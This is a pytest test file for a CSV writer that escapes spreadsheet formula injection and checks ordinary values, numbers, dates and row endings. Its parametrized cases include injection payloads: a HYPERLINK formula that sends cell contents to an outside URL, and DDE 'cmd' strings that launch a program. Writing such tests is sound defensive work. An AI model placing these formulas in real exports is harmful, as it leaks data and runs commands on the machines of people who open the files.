import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from earlyhelp.lib.csvsafe import SafeWriter, escape_cell


def written(rows) -> list[list[str]]:
    stream = io.StringIO()
    SafeWriter(stream).writerows(rows)
    return list(csv.reader(io.StringIO(stream.getvalue())))


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://example.org/x?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(attack):
    [[cell]] = written([[attack]])
    assert cell == "'" + attack


def test_ordinary_text_is_written_unchanged_including_commas_quotes_and_lines():
    row = ["Amara Testwell", 'Said "no", then left', "line one\nline two", "a = b"]
    assert written([row]) == [row]


def test_numbers_dates_and_flags_are_values_not_text():
    assert written([[-3, Decimal("-1.5"), 0.25, date(2026, 1, 5), True, None]]) == [
        ["-3", "-1.5", "0.25", "2026-01-05", "Yes", ""]
    ]


def test_text_that_looks_like_a_negative_number_is_still_escaped():
    assert escape_cell("-3") == "'-3"


def test_rows_end_the_way_spreadsheets_expect():
    stream = io.StringIO()
    SafeWriter(stream).writerow(["a", "b"])
    assert stream.getvalue() == "a,b\r\n"
